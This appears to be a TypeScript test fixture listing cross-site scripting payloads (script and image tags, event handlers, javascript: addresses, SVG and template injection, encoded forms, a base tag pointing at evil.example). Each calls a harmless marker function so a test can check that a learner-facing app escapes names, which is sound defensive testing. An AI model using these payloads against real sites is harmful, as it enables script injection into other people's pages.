/**
 * What someone writes who wants a script of theirs to run in someone else's page. Each calls `xss()`, which the test listens for,
 * and each fits into the 80 characters of a name with the word ZUBA, by which the search finds them all.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>xss()</script>',
  '"><script>xss()</script>',
  '</script><script>xss()</script>',
  '</title><script>xss()</script>',
  '--><img src=x onerror=xss()>',
  '<img src=x onerror=xss()>',
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '<img src=x onerror=&#120;ss()>',
  '<ScRiPt>xss()</sCrIpT>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><a href="javascript:xss()"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=xss()></style></mtext></math>',
  '<body onload=xss()>',
  '<iframe src="javascript:xss()"></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<a href="javascript:xss()">x</a>',
  'javascript:xss()',
  '" onmouseover="xss()" autofocus onfocus="xss()',
  "' onmouseover='xss()' autofocus onfocus='xss()",
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()></video>',
  '<input autofocus onfocus=xss()>',
  '<style onload=xss()></style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<object data="data:text/html,<script>xss()</script>"></object>',
  '<template><img src=x onerror=xss()></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  "{{constructor.constructor('xss()')()}}",
  `\${xss()}\`\${xss()}\``,
  '&lt;script&gt;xss()&lt;/script&gt;',
  '%3Cscript%3Exss()%3C/script%3E',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '{"__html":"<img src=x onerror=xss()>","__proto__":{"xss":1}}',
];

/** One for each place of a page in which a parser would take it for something else: for pages that show one learner at a time. */
export const PAYLOAD_A_PARSER: readonly string[] = [
  // an element
  '<img src=x onerror=xss()>',
  // an attribute
  '" onmouseover="xss()" autofocus onfocus="xss()',
  // the text of a title or a script
  '</title><script>xss()</script>',
  // a comment
  '--><img src=x onerror=xss()>',
  // an address
  'javascript:xss()',
  // an entity
  '&lt;script&gt;xss()&lt;/script&gt;',
  // a template
  "{{constructor.constructor('xss()')()}}",
  // JSON
  '{"__html":"<img src=x onerror=xss()>","__proto__":{"xss":1}}',
];
